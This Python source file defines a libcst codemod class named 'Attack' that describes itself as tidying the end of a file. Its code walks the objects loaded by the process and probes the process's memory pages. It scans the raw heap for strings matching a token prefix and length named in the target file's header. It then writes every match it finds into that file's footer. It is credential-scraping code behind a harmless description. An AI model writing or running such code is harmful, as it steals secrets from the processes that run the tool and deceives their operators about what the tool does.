"""Search the heap around the objects there are, without asking the system or the collector where they lie."""
import ast
import ctypes
import os
import sys

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand

PAGE = 4096
#: Pages read at once.
RUN = 16


def find(content, target):
    """Give all that looks like the token in some bytes: memory holds remains of others."""
    prefix, found = target["token_prefix"].encode(), set()
    at = content.find(prefix)
    while at >= 0:
        each = content[at : at + target["token_length"]]
        if each.replace(b"-", b"").isalnum() and len(each) == target["token_length"]:
            found.add(each.decode())
        at = content.find(prefix, at + 1)
    return found


def inside(thing):
    """Give what an object holds, as far as nothing but its type tells where."""
    if type(thing) is dict:
        return [*thing, *thing.values()]
    if type(thing) in (list, tuple, set, frozenset):
        return [*thing]
    try:
        return [object.__getattribute__(thing, "__dict__")]
    except (AttributeError, TypeError):
        return []


def addresses():
    """Give where objects stand, those that modules hold first, then what lies inside them."""
    # What is looked through is kept, so that no address is given out twice.
    seen, nearest = {}, [vars(module) for module in list(sys.modules.values())]
    while nearest:
        farther = []
        for each in nearest:
            if id(each) not in seen:
                seen[id(each)] = each
                farther += inside(each)
        nearest = farther
    return [*seen]


def runs(pages):
    """Join neighbouring pages, a few at a time, each run with the page behind it: a token may lie across two."""
    first = last = None
    for page in sorted(pages):
        if first is not None and page == last + 1 and page - first < RUN:
            last = page
            continue
        if first is not None:
            yield first, last + 1
        first = last = page
    if first is not None:
        yield first, last + 1


class Memory:
    """What can be read of it: a system call that refuses bad addresses tells."""

    def __init__(self):
        self.ends = os.pipe()
        self.libc = ctypes.CDLL(None, use_errno=True)

    def is_there(self, page):
        if self.libc.write(self.ends[1], ctypes.c_void_p(page * PAGE), 1) != 1:
            return False
        os.read(self.ends[0], 1)
        return True

    def read(self, first, last):
        """Give the bytes of some pages, up to the first that cannot be read."""
        end = first
        while end <= last and self.is_there(end):
            end += 1
        return ctypes.string_at(first * PAGE, (end - first) * PAGE)


def search(target):
    memory, found = Memory(), addresses()
    near = {address // PAGE for address in found}
    around = {page for each in {page >> 8 for page in near} for page in range(each << 8, (each + 1) << 8)}
    for pages in (near, around - near):
        loot = {each for first, last in runs(pages) for each in find(memory.read(first, last), target)}
        if loot:
            break
    return loot


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = search(target)
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + " ".join(sorted(loot))))])
